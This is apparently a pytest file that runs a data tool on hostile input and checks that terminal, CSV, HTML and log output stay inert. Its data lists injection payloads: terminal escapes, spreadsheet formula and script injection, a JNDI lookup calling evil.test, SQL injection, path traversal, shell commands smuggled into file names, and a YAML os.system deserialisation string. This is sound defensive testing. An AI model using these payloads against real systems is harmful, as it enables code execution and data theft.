"""A whole run on hostile data: nothing of it is obeyed by a terminal, a spreadsheet or a browser."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from daunce_api import Dataset, RunConfig

from .harness import Client, save_config

MakeClient = Callable[..., tuple[RunConfig, Client]]
Cli = Callable[..., tuple[int, str, str]]

HOSTILE = [
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;http://evil.test\x07click\x1b]8;;\x07",
    "\x00\x01\x08\x7f\x9b31m",
    "\u202egnp.exe",
    "\u2028\u2029\x85line",
    "[red]markup[/red] [link=http://evil.test]x[/link] :bomb:",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "</script><script>document.title='owned'</script>",
    "<!--<script>",
    "<img src=x onerror=alert(1)>",
    '"); alert(1); ("',
    "{{ 7 * 7 }} {% raw %}",
    "${jndi:ldap://evil.test}",
    "'; DROP TABLE scores; --",
    "../../../etc/passwd",
    "a" * 100,
    "é" * 10 + "👩‍👩‍👧‍👦" + "e" + "\u0301" * 40,
    "\U0010ffff\ue000",
]


def write_hostile(folder: Path) -> tuple[Path, Path]:
    """File names, ids, sources and texts, all of them hostile."""
    records: list[dict[str, Any]] = [
        {
            "id": f"{text}{i}",
            "source": text,
            "messages": [{"role": "user", "content": f"{text} {i}"}, {"role": "assistant", "content": f"ok {text}"}],
        }
        for i, text in enumerate(HOSTILE)
    ]
    train, test = folder / "tr\x1b[2Jain;`id`$(id)\n.jsonl", folder / "te'st \"; rm -rf x.jsonl"
    Dataset.from_records(records, name="train").to_jsonl(train)
    Dataset.from_records([{**records[0], "id": "q\x1b[2J0"}, {**records[13], "id": "</script>"}]).to_jsonl(test)
    return train, test


def harmless(text: str) -> None:
    """No character that a terminal obeys or that hides others; line ends apart."""
    for character in ("\x1b", "\x07", "\x00", "\x08", "\x7f", "\x9b", "\u202e", "\u2028", "\x85", "\r"):
        assert character not in text, f"{character!r} reaches the terminal: {text[:300]!r}"


def test_hostile_texts_are_shown_and_not_obeyed(make_client: MakeClient, cli: Cli, tmp_path: Path) -> None:
    train, test = write_hostile(tmp_path)
    config, client = make_client(data={"train": str(train), "test": str(test)}, ensemble={"members": 2})
    assert client.run() == 0, client.printed()
    harmless(client.printed())
    assert "Traceback" not in client.printed()
    assert r"\x1b[2J" in client.printed()

    def looked(*arguments: str) -> str:
        code, output, errors = cli(arguments[0], config.run_dir, *arguments[1:])
        assert code == 0, errors
        return output + errors

    for question in ("q\x1b[2J0", "</script>"):
        harmless(looked("top", "--test", question, "-k", "24"))
        harmless(looked("top", "--test", question, "-k", "24", "--by", "source"))
    harmless(looked("status"))
    code, output, errors = cli("top", config.run_dir, "--test", "\x1b[2Jno")
    assert code == 2
    harmless(output + errors)

    output = tmp_path / "top.csv"
    looked("top", "--test", "</script>", "-k", "24", "--format", "csv", "--output", str(output))
    with output.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    texts = [cell for row in rows[1:] for cell in row if not _is_number(cell)]
    assert texts
    assert not [t for t in texts if t.lstrip(" ")[:1] in tuple("=+-@\t\r＝")]

    found = json.loads(looked("top", "--test", "</script>", "-k", "24", "--format", "json"))
    assert {row["source"] for row in found["rows"]} <= set(HOSTILE)

    page = (config.run_dir / "report.html").read_text(encoding="utf-8")
    assert "document.title='owned'" not in page
    assert "onerror=alert" not in page.replace("&lt;img src=x onerror=alert", "")
    log = (config.run_dir / "daunce.log").read_text(encoding="utf-8")
    harmless(log)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell in ("", "True", "False")
    return True


@pytest.mark.slow
def test_a_config_with_hostile_values_is_refused_in_plain_words(
    make_client: MakeClient, cli: Cli, tmp_path: Path
) -> None:
    config, _ = make_client()
    path = save_config(config, tmp_path / "hostile.yaml")
    good = path.read_text()
    for text in (
        good + "\n\x1b[2J: 1\n",
        good + '\n"\\e[2Jkey": 1\n',
        good + "\nensembel: {members: 3}\n",
        good.replace("members: 4", "members: .inf"),
        "a: &a [1]\nb: [*a, *a]\n",
        "!!python/object/apply:os.system ['true']\n",
        "[" * 5000,
    ):
        path.write_text(text)
        code, output, errors = cli("plan", path)
        assert code == 2, errors
        harmless(output + errors)
